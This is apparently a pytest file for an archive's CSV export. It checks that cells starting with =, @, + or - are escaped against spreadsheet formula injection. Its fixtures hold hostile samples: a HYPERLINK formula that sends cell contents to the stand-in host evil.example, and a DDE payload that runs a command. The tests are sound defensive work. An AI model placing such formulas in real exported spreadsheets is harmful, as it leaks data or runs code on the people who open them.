"""Datasette's own CSV: no cell is a formula, nothing else is changed."""

from __future__ import annotations

import csv
import io

import pytest
from asking import Getter, getter
from filing import a_page, file_away
from hypothesis import given
from hypothesis import strategies as st

from archive.browse.formulas import Formulas

TITLES = (
    "=1+1",
    '=HYPERLINK("https://evil.example?"&A1,"x")',
    "@SUM(1)",
    "-2+3",
    'He said "=1"',
    "+1 (313) 555 01",
    "'=2",
)


@pytest.fixture(scope="module")
def sheet(tmp_path_factory: pytest.TempPathFactory) -> Getter:
    text = "=cmd|' /C calc'!A0\n\"quoted\", and\n" + "long " * 40_000
    pages = [a_page(f"sheet-{n}", title=title, text=text) for n, title in enumerate(TITLES)]
    return getter(file_away(tmp_path_factory.mktemp("sheet"), pages))


@pytest.mark.parametrize("options", ["", "&_stream=on", "&_dl=1", "&_header=off"])
def test_no_cell_of_datasettes_csv_is_a_formula(options: str, sheet: Getter) -> None:
    answer = sheet(f"/archive/posts.csv?_sort=id&_col=title&_col=text&_col=confidence{options}")
    assert answer.status == 200
    rows = list(csv.reader(io.StringIO(answer.text, newline="")))
    shown = [row[1] for row in rows if row[0] != "id"]
    assert shown == ["'=1+1", f"'{TITLES[1]}", "'@SUM(1)", "'-2+3", TITLES[4], "'+1 (313) 555 01", "''=2"]
    assert {row[3] for row in rows if row[0] != "id"} == {"0.97"}
    assert all(row[2].endswith("long " * 3) for row in rows if row[0] != "id")


def test_our_own_csv_is_not_changed_twice(sheet: Getter) -> None:
    titles = [row["title"] for row in csv.DictReader(io.StringIO(sheet("/archive/-/search.csv?q=", "GET").text))]
    assert sorted(titles) == sorted(
        ["'=1+1", f"'{TITLES[1]}", "'@SUM(1)", "'-2+3", TITLES[4], "'+1 (313) 555 01", "''=2"]
    )


def test_csv_that_failed_is_no_csv(sheet: Getter) -> None:
    answer = sheet("/archive/nothing.csv")
    assert answer.status == 404
    assert not answer.headers["content-type"].startswith("text/csv")


cells = st.text(alphabet=st.sampled_from('a="@-+ ,\n\r1.é'), max_size=8)


@given(st.lists(st.lists(cells, min_size=2, max_size=2), min_size=1, max_size=6), st.integers(1, 7))
def test_any_table_in_pieces_of_any_size_keeps_its_words(rows: list[list[str]], size: int) -> None:
    out = io.StringIO()
    csv.writer(out).writerows(rows)
    sent = out.getvalue().encode()
    pieces = [sent[at : at + size] for at in range(0, len(sent), size)]
    formulas = Formulas()
    whole = b"".join([*(formulas.feed(piece, last=False) for piece in pieces), formulas.feed(b"", last=True)])
    found = list(csv.reader(io.StringIO(whole.decode(), newline="")))
    assert [[each.removeprefix("'") for each in row] for row in found] == rows
    assert not any(each[:1] in ("=", "@", "\r", "\t") for row in found for each in row)
